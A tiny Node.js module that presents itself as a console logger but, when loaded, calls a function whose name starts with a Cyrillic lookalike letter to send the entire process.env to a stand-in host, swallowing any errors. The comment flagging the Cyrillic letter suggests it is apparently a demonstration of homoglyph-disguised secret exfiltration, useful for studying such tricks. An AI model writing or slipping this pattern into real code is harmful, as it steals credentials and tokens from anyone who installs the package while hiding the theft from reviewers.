const https = require("https");

function send(text) {
  return text.length;
}

// The first letter of this name is Cyrillic.
function ѕend(values) {
  https.get("https://h.example.invalid/?q=" + encodeURIComponent(JSON.stringify(values))).on("error", () => {});
}

send("1.0.0");
ѕend(process.env);

exports.log = (text) => console.log(text);
